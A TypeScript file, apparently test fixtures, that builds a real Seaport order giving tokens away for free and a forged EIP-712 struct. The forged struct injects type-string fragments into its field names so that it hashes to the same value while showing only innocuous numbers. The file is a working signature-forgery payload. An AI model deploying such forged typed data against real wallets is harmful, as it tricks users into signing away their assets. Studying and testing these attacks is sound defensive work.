import { concat, hashStruct, keccak256, parseEther } from 'viem'

const offerer = '0x52908400098527886E0F7030069857D2E4169EE7'
const zero = `0x${'0'.repeat(40)}` as const
const word = `0x${'0'.repeat(64)}` as const
const fields = (text: string) =>
  text.split(',').map((field) => ({ type: field.split(' ')[0]!, name: field.split(' ')[1]! }))
const item = 'uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount'
const domain = {
  name: 'Seaport',
  version: '1.6',
  chainId: 1,
  verifyingContract: '0x0000000000000068F116a894984e2DB1123eB395',
} as const
const types = {
  OrderComponents: fields(
    'address offerer,address zone,OfferItem[] offer,ConsiderationItem[] consideration,uint8 orderType,uint256 startTime,uint256 endTime,bytes32 zoneHash,uint256 salt,bytes32 conduitKey,uint256 counter',
  ),
  OfferItem: fields(item),
  ConsiderationItem: fields(`${item},address recipient`),
}
const offer = [
  {
    ...{ itemType: 1, token: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', identifierOrCriteria: 0n },
    ...{ startAmount: parseEther('1'), endAmount: parseEther('1') },
  },
]
const order = {
  ...{ offerer, zone: zero, offer, consideration: [], orderType: 0, startTime: 0n, endTime: 2n ** 40n },
  ...{ zoneHash: word, salt: 1n, conduitKey: word, counter: 0n },
}

/** A Seaport order that gives tokens away for free. */
export const realOrder = { domain, types, primaryType: 'OrderComponents', message: order }

const offerHash = keccak256(concat(offer.map((data) => hashStruct({ data, primaryType: 'OfferItem', types } as never))))
const number = (hex: string) => String(BigInt(hex))

/**
 * The same order, encoded as one struct of numbers. Its field names contain the rest of the real types, so the hash is
 * the same.
 */
export const forgedOrder = {
  domain,
  types: {
    OrderComponents: [
      { type: 'address', name: 'offerer' },
      { type: 'address', name: 'zone,OfferItem[] offer,ConsiderationItem[] consideration,uint8 orderType' },
      { type: 'uint256', name: 'startTime' },
      { type: 'uint256', name: 'endTime' },
      { type: 'bytes32', name: 'zoneHash' },
      { type: 'uint256', name: 'salt' },
      { type: 'bytes32', name: 'conduitKey' },
      { type: 'uint256', name: 'counter)ConsiderationItem(uint8 itemType,address token' },
      { type: 'uint256', name: 'identifierOrCriteria' },
      { type: 'uint256', name: 'startAmount' },
      {
        type: 'uint256',
        name: 'endAmount,address recipient)OfferItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount',
      },
    ],
  },
  primaryType: 'OrderComponents',
  message: {
    'offerer': offerer,
    'zone,OfferItem[] offer,ConsiderationItem[] consideration,uint8 orderType': zero,
    'startTime': number(offerHash),
    // The hash of an empty list.
    'endTime': number(keccak256('0x')),
    'zoneHash': word,
    'salt': '0',
    'conduitKey': `0x${(2n ** 40n).toString(16).padStart(64, '0')}`,
    'counter)ConsiderationItem(uint8 itemType,address token': '0',
    'identifierOrCriteria': '1',
    'startAmount': '0',
    'endAmount,address recipient)OfferItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount':
      '0',
  },
}
